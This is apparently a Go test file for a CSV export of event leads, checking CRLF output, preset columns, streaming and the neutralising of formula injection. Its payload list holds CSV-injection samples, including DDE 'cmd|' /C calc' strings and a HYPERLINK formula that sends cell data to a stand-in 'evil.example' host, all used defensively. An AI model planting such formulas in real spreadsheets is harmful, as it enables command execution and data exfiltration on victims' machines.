package export

import (
	"bytes"
	"fmt"
	"io"
	"runtime"
	"slices"
	"strings"
	"testing"
	"unicode/utf8"
)

// payloads are hostile or awkward cell values: OWASP injection examples, every script,
// separators, quotes and line breaks.
var payloads = []string{
	`=1+2";=1+2`,
	`=1+2'" ;,=1+2`,
	`+cmd|' /C calc'!A0`,
	`@SUM(1)`,
	`-2+3`,
	"\t=1",
	"\r=1",
	"\n=1",
	"\x00=1",
	" =1",
	"\u200f=HYPERLINK(\"http://x\")",
	`=HYPERLINK("http://evil.example/?"&A1,"x")`,
	"+49 170 1234567",
	"@handle",
	"-1",
	`Acme, Inc. "Widgets"`,
	"a,b,c",
	`"quoted"`,
	`""`,
	`\.`,
	"line one\nline two",
	"crlf\r\nline",
	"trailing newline\n",
	"Ana María Souza",
	"李小龙",
	"Ελένη כהן",
	"محمد بن سلمان",
	"Тимофей Иванов",
	"山田 太郎",
	"김민준",
	"नमस्ते दुनिया",
	"👩🏽‍💻 emoji",
	"'already quoted",
	"",
	"-dash@example.com",
	"+tag@example.com",
	"+1 (555) 123-4567",
	"Acme;=cmd|' /C calc'!A0",
	"note\n;=3+3",
	"a\t=1",
	"line\n- SUM(A1)",
	`"=1"`,
	"00123",
	"1/2",
	"2026-05-12",
	"=\"\"\"",
}

// checkCRLF fails if a record ending outside quotes is not CRLF, or the output does not
// end with CRLF (RFC 4180).
func checkCRLF(t testing.TB, b []byte) {
	t.Helper()
	b = bytes.TrimPrefix(b, []byte(bom))
	if !bytes.HasSuffix(b, []byte("\r\n")) {
		t.Errorf("output does not end with CRLF: %q", b[max(0, len(b)-20):])
	}
	inQuotes := false
	for i, c := range b {
		switch {
		case c == '"':
			inQuotes = !inQuotes
		case inQuotes:
		case c == '\n' && (i == 0 || b[i-1] != '\r'):
			t.Errorf("bare LF outside quotes at byte %d", i)
		case c == '\r' && (i+1 >= len(b) || b[i+1] != '\n'):
			t.Errorf("bare CR outside quotes at byte %d", i)
		}
	}
	if inQuotes {
		t.Error("unbalanced quotes")
	}
	if !utf8.Valid(b) {
		t.Error("output is not valid UTF-8")
	}
}

// checkNoDangerousCells fails for a cell that holds a formula start by the package's rule: a
// cell read back from the CSV must need no more neutralising.
func checkNoDangerousCells(t testing.TB, recs [][]string) {
	t.Helper()
	for i, rec := range recs {
		for j, cell := range rec {
			if needsQuote(cell) {
				t.Errorf("record %d cell %d still starts a formula: %q", i, j, cell)
			}
		}
	}
}

// expectCell is what a text field comes back as: the field cleaned and neutralised.
func expectCell(t *testing.T, field, got string) {
	t.Helper()
	if got != Sanitize(field) {
		t.Errorf("cell = %q, want Sanitize(%q) = %q", got, field, Sanitize(field))
	}
}

func TestRoundTripEveryField(t *testing.T) {
	for i, p := range payloads {
		other := payloads[(i+1)%len(payloads)]
		l := Lead{
			ID: p, EventName: p, EventSlug: p,
			Name: p, Email: p, Phone: p, Company: p, Title: p,
			LinkedIn: p, GitHub: other, CVURL: p, Message: p,
			Interests: []string{p, other}, Tags: []string{other},
			Source: p, BadgeCode: p, Rating: p, FollowUp: p,
			VisitCount: -3, FirstSeen: at("2026-05-12 12:00"),
			Consents: []Consent{{Purpose: "contact", Granted: true, TextVersion: 7, CapturedBy: p, At: at("2026-05-12 12:00")}},
			Conversations: []Conversation{
				{Staff: "Dana", At: at("2026-05-12 12:01"), Rating: "hot", Notes: p},
				{Staff: p, Notes: other},
			},
		}
		t.Run(fmt.Sprintf("%d", i), func(t *testing.T) {
			for _, preset := range Presets() {
				b := writeAll(t, preset.Preset, Options{BOM: i%2 == 0}, []Lead{l, l})
				checkCRLF(t, b)
				recs := readAll(t, b)
				h := Header(preset.Preset)
				rows := rowsOf(preset.Preset, []Lead{l, l})
				if len(recs) != 1+rows || !slices.Equal(recs[0], h) {
					t.Fatalf("%s: %d records, header %q", preset.Preset, len(recs), recs[0])
				}
				checkNoDangerousCells(t, recs[1:])
				if rows == 0 {
					if preset.Preset == Generic || trim(p) != "" {
						t.Fatalf("%s left out %q", preset.Preset, p)
					}
					continue
				}
				if !slices.Equal(recs[1], recs[2]) {
					t.Errorf("%s: the same lead gave different rows", preset.Preset)
				}
				row := map[string]string{}
				for j, name := range h {
					row[name] = recs[1][j]
				}
				first, last := SplitName(p)
				switch preset.Preset {
				case Generic:
					for name, field := range map[string]string{
						"Lead ID": l.ID, "Event": l.EventName, "First Name": first, "Last Name": last,
						"Full Name": l.Name, "Email": l.Email, "Phone": l.Phone, "Company": l.Company,
						"Title": l.Title, "LinkedIn URL": l.LinkedIn, "GitHub URL": l.GitHub,
						"CV URL": l.CVURL, "Message": l.Message, "Source": l.Source,
						"Badge Code": l.BadgeCode, "Rating": l.Rating, "Follow-up": l.FollowUp,
						"Consent Captured By": p, "Visits": "-3",
						"First Seen": "2026-05-12 12:00", "Last Seen": "", "Conversation Count": "2",
						"Contact Consent": "yes", "Contact Consent Text Version": "7",
					} {
						t.Run(name, func(t *testing.T) { expectCell(t, field, row[name]) })
					}
					if got, want := row["Interests"], Sanitize(joinTrimmed([]string{p, other}, "; ")); got != want {
						t.Errorf("Interests = %q, want %q", got, want)
					}
					if conv := row["Conversations"]; !strings.HasPrefix(conv, "2026-05-12 12:01 Dana [hot]") {
						t.Errorf("Conversations = %q", conv)
					}
				case Greenhouse:
					if last == "" {
						last = NoLastName
					}
					for name, field := range map[string]string{
						"First Name": first, "Last Name": last, "Company": l.Company, "Title": l.Title,
						"Email": l.Email, "Phone": l.Phone, "Website": l.CVURL,
					} {
						t.Run(name, func(t *testing.T) { expectCell(t, field, row[name]) })
					}
				case Lever:
					for name, field := range map[string]string{
						"Full Name": l.Name, "Email": l.Email, "Phone": l.Phone,
						"Origin": "Sourced", "Stage": "New Lead", "Company": l.Company,
					} {
						t.Run(name, func(t *testing.T) { expectCell(t, field, row[name]) })
					}
					for _, tag := range strings.Split(strings.ReplaceAll(row["Tags"], "'", ""), ",") {
						if tag != strings.TrimSpace(tag) || tag == "" && row["Tags"] != "" {
							t.Errorf("Tags %q has an untrimmed or empty tag", row["Tags"])
						}
					}
				}
				notes := row["Notes"] + row["Note-0"]
				if preset.Preset != Generic && trim(p) != "" && !strings.Contains(notes, "Rating: ") {
					t.Errorf("Notes lacks the rating: %q", notes)
				}
			}
		})
	}
}

func joinTrimmed(items []string, sep string) string {
	var out []string
	for _, it := range items {
		if it = trim(it); it != "" {
			out = append(out, strings.Join(strings.FieldsFunc(it, func(r rune) bool { return r == '\r' || r == '\n' }), " "))
		}
	}
	return strings.Join(out, sep)
}

// TestHeaderCellsAreUnchanged checks that neutralising the header row is harmless.
func TestHeaderCellsAreUnchanged(t *testing.T) {
	for _, p := range Presets() {
		for _, h := range Header(p.Preset) {
			if Sanitize(h) != h {
				t.Errorf("%s header %q changes to %q", p.Preset, h, Sanitize(h))
			}
		}
	}
}

// TestStreamsRows checks that the Writer keeps no rows: after Write+Flush the underlying
// writer has every row, output drains while writing (before any Flush), and a Write costs
// the same allocations however many rows came before.
func TestStreamsRows(t *testing.T) {
	var buf bytes.Buffer
	w := NewWriter(&buf, Generic, Options{})
	leads := fixtures()
	for batch := 1; batch <= 3; batch++ {
		for i := range 50 {
			if err := w.Write(leads[i%len(leads)]); err != nil {
				t.Fatal(err)
			}
		}
		if err := w.Flush(); err != nil {
			t.Fatal(err)
		}
		recs := readAll(t, buf.Bytes())
		if len(recs) != 1+50*batch || w.Rows() != 50*batch {
			t.Fatalf("after batch %d: %d records in the output, Rows() = %d", batch, len(recs), w.Rows())
		}
	}

	// Without Flush, output still reaches the underlying writer once the csv buffer fills.
	var cw countWriter
	w = NewWriter(&cw, Generic, Options{})
	for i := range 1000 {
		if err := w.Write(leads[i%len(leads)]); err != nil {
			t.Fatal(err)
		}
		if i > 50 && cw.n == 0 {
			t.Fatalf("nothing written after %d rows", i+1)
		}
	}
	// Less than the csv buffer (4 KiB) plus one row is held back.
	held := w.bw.Buffered()
	if held > 8192 {
		t.Fatalf("%d bytes buffered", held)
	}

	w = NewWriter(io.Discard, Generic, Options{})
	for _, l := range leads {
		_ = w.Write(l)
	}
	before := testing.AllocsPerRun(200, func() { _ = w.Write(leads[0]) })
	for range 5000 {
		_ = w.Write(leads[0])
	}
	after := testing.AllocsPerRun(200, func() { _ = w.Write(leads[0]) })
	if before != after || after > 2 {
		t.Errorf("allocations per Write: %v at first, %v after 5000 rows (want constant, ≤ 2)", before, after)
	}
}

// TestHeapStaysFlat writes many rows and checks the live heap does not grow with them.
func TestHeapStaysFlat(t *testing.T) {
	if testing.Short() {
		t.Skip("writes 50,000 rows")
	}
	leads := fixtures()
	huge := leads[0]
	huge.Message = strings.Repeat("x", 1<<20)
	w := NewWriter(io.Discard, Generic, Options{})
	_ = w.Write(huge) // its scratch buffers must be dropped, not kept
	heap := func() uint64 {
		var m runtime.MemStats
		runtime.GC()
		runtime.ReadMemStats(&m)
		return m.HeapAlloc
	}
	before := heap()
	for i := range 50_000 {
		if err := w.Write(leads[i%len(leads)]); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	after := heap()
	if after > before+1<<20 {
		t.Errorf("live heap grew from %d to %d bytes over 50,000 rows", before, after)
	}
	if cap(w.row.out) > maxScratch || cap(w.row.raw) > maxScratch {
		t.Errorf("scratch buffers kept: out %d, raw %d bytes", cap(w.row.out), cap(w.row.raw))
	}
	runtime.KeepAlive(w)
}

type countWriter struct{ n int }

func (c *countWriter) Write(p []byte) (int, error) {
	c.n += len(p)
	return len(p), nil
}
